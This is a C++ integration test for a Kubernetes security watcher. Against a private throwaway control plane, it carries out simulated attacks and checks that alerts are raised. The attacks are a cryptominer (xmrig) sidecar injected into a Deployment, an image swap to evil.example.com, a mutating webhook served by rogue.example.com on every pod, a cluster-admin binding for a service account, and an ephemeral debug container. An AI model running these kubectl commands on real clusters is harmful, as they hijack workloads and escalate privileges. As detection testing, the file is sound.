// `kubeguard cluster watch`, the real binary against a real API server: each
// injection path raises its alert while the watch runs, and a change made
// right after an API server restart still arrives. The restart would disturb
// other tests, so this test runs a control plane of its own (other ports and
// run dir), and stops it at the end.
#include <signal.h>
#include <unistd.h>

#include <chrono>
#include <fstream>
#include <sstream>
#include <thread>

#include <gtest/gtest.h>

#include "cluster/live_cluster.h"

namespace kg::cluster {
namespace {

using kg::testing::live_detail::quote;
using kg::testing::live_detail::run;

std::string slurp(const std::string& path) {
  std::ifstream in(path, std::ios::binary);
  std::stringstream text;
  text << in.rdbuf();
  return text.str();
}

// Waits until `path` holds every one of `needles`; the file's text either way.
std::string wait_for_text(const std::string& path, std::initializer_list<std::string> needles, int seconds = 40) {
  std::string text;
  for (int i = 0; i < seconds * 10; ++i) {
    text = slurp(path);
    bool all = true;
    for (const auto& n : needles) all = all && text.find(n) != std::string::npos;
    if (all) break;
    std::this_thread::sleep_for(std::chrono::milliseconds(100));
  }
  return text;
}

std::string fmt_field(std::string_view key, std::string_view value) {
  std::string field = "\"";
  field.append(key).append("\":\"").append(value).append("\"");
  return field;
}

bool has_alert(const std::string& text, std::string_view rule, std::string_view kind, std::string_view name) {
  std::istringstream lines(text);
  for (std::string line; std::getline(lines, line);) {
    if (line.find(fmt_field("rule", rule)) != std::string::npos &&
        line.find(fmt_field("kind", kind)) != std::string::npos &&
        line.find(fmt_field("name", name)) != std::string::npos) {
      return true;
    }
  }
  return false;
}

class PrivateControlPlane {
 public:
  explicit PrivateControlPlane(std::string dir) : dir_(std::move(dir)) {
    env_ = "KUBEGUARD_CP_DIR=" + quote(dir_) +
           " KUBEGUARD_CP_PORT=6843 KUBEGUARD_CP_ETCD_PORT=24190 KUBEGUARD_CP_ETCD_PEER_PORT=24200 "
           "KUBEGUARD_CP_KCM_PORT=10757 ";
  }
  ~PrivateControlPlane() { script("stop"); }
  int script(const std::string& verb) {
    return run(env_ + quote(std::string(KG_SOURCE_DIR) + "/scripts/controlplane.sh") + " " + verb + " >>" +
                   quote(dir_ + ".log") + " 2>&1",
               nullptr);
  }
  std::string kubeconfig() const { return dir_ + "/admin.kubeconfig"; }
  int kubectl(const std::string& args, std::string* out = nullptr) const {
    return run("KUBECONFIG=" + quote(kubeconfig()) + " kubectl " + args + " 2>&1", out);
  }

 private:
  std::string dir_;
  std::string env_;
};

// The watch process, stopped with SIGTERM (its clean way out) at the end.
class WatchProcess {
 public:
  WatchProcess(const std::string& kubeconfig, const std::string& out, const std::string& err) {
    std::string pid;
    run(quote(KG_BINARY) + " cluster watch -f json --min-severity medium --watch-timeout 20 --kubeconfig " +
            quote(kubeconfig) + " >" + quote(out) + " 2>" + quote(err) + " </dev/null & echo $!",
        &pid);
    pid_ = std::atoi(pid.c_str());
  }
  ~WatchProcess() {
    if (pid_ > 0) kill(pid_, SIGTERM);
  }
  bool alive() const { return pid_ > 0 && kill(pid_, 0) == 0; }

 private:
  pid_t pid_ = 0;
};

TEST(LiveWatch, AlertsOnInjectionPathsAndSurvivesApiServerRestart) {
  std::string why;
  if (!kg::testing::live_cluster(&why)) GTEST_SKIP() << why;
  char tmpl[] = "/tmp/kg-watch-test.XXXXXX";
  ASSERT_NE(mkdtemp(tmpl), nullptr);
  std::string dir = tmpl;
  // Declared first, so it runs last: after the watch and the control plane stopped.
  struct RemoveDir {
    std::string dir;
    ~RemoveDir() { run("rm -rf " + quote(dir), nullptr); }
  } remove_dir{dir};
  PrivateControlPlane cp(dir + "/cp");
  ASSERT_EQ(cp.script("start"), 0) << slurp(dir + "/cp.log");

  std::string out = dir + "/watch.out", err = dir + "/watch.err";
  WatchProcess watch(cp.kubeconfig(), out, err);
  std::string status = wait_for_text(err, {"objects known"});
  ASSERT_NE(status.find("watching 15 resources"), std::string::npos) << status;

  // S1: a container added to a Deployment's template, then its image swapped.
  ASSERT_EQ(cp.kubectl("create namespace shop >/dev/null"), 0);
  ASSERT_EQ(cp.kubectl("-n shop create deployment web --image=registry.example.com/web:1.0 >/dev/null"), 0);
  ASSERT_EQ(cp.kubectl("-n shop patch deployment web --type=json -p "
                       "'[{\"op\":\"add\",\"path\":\"/spec/template/spec/containers/-\",\"value\":{\"name\":"
                       "\"log-agent\",\"image\":\"docker.io/xmrig/xmrig:6.21.0\"}}]' >/dev/null"),
            0);
  std::string text = wait_for_text(out, {"KG-DRIFT-001", "KG-SC-006"});
  EXPECT_TRUE(has_alert(text, "KG-DRIFT-001", "Deployment", "web")) << text;
  EXPECT_TRUE(has_alert(text, "KG-SC-006", "Deployment", "web")) << text;
  ASSERT_EQ(cp.kubectl("-n shop set image deployment/web web=evil.example.com/web:1.0 >/dev/null"), 0);
  text = wait_for_text(out, {"KG-DRIFT-002"});
  EXPECT_TRUE(has_alert(text, "KG-DRIFT-002", "Deployment", "web")) << text;

  // S4: a mutating webhook on every pod, served from outside the cluster.
  {
    std::ofstream webhook(dir + "/webhook.yaml");
    webhook << "apiVersion: admissionregistration.k8s.io/v1\n"
               "kind: MutatingWebhookConfiguration\n"
               "metadata: {name: rogue-injector}\n"
               "webhooks:\n"
               "- name: inject.rogue.example.com\n"
               "  clientConfig: {url: 'https://rogue.example.com/mutate'}\n"
               "  rules: [{operations: [CREATE], apiGroups: [''], apiVersions: [v1], resources: [pods]}]\n"
               "  sideEffects: None\n"
               "  admissionReviewVersions: [v1]\n"
               "  failurePolicy: Ignore\n";
  }
  ASSERT_EQ(cp.kubectl("apply -f " + quote(dir + "/webhook.yaml") + " >/dev/null"), 0);
  text = wait_for_text(out, {"KG-WH-001"});
  EXPECT_TRUE(has_alert(text, "KG-WH-001", "MutatingWebhookConfiguration", "rogue-injector")) << text;

  // Least privilege broken: a service account bound to cluster-admin.
  ASSERT_EQ(cp.kubectl("create clusterrolebinding shop-takeover --clusterrole=cluster-admin "
                       "--serviceaccount=shop:default >/dev/null"),
            0);
  text = wait_for_text(out, {"KG-RBAC-014"});
  EXPECT_TRUE(has_alert(text, "KG-RBAC-014", "ClusterRoleBinding", "shop-takeover")) << text;

  // S3: an ephemeral container added to a running pod.
  ASSERT_EQ(cp.kubectl("-n shop run target --image=registry.example.com/app:1.0 --restart=Never >/dev/null"), 0);
  std::string debug_out;
  cp.kubectl("-n shop debug target --image=busybox:1.36 --profile=general -- true", &debug_out);
  text = wait_for_text(out, {"KG-SC-009"});
  EXPECT_TRUE(has_alert(text, "KG-SC-009", "Pod", "target")) << text << debug_out;

  // The API server goes away and comes back; a change made at once must
  // still arrive (the watch resumes from its resourceVersion, or relists).
  ASSERT_EQ(cp.script("restart-apiserver"), 0) << slurp(dir + "/cp.log");
  ASSERT_EQ(cp.kubectl("-n shop set image deployment/web web=registry.example.com/web:2.0 >/dev/null"), 0);
  text = wait_for_text(out, {"registry.example.com/web:2.0"}, 90);
  EXPECT_NE(text.find("registry.example.com/web:2.0"), std::string::npos) << text << slurp(err);
  EXPECT_TRUE(watch.alive()) << slurp(err);

  // Ordinary work raises nothing: scaling a Deployment makes new pods from
  // the same template, which are not alerts.
  size_t before = slurp(out).size();
  ASSERT_EQ(cp.kubectl("-n shop scale deployment web --replicas=3 >/dev/null"), 0);
  std::this_thread::sleep_for(std::chrono::seconds(3));
  std::string after = slurp(out).substr(before);
  EXPECT_EQ(after.find("\"kind\":\"Pod\""), std::string::npos) << after;
}

}  // namespace
}  // namespace kg::cluster
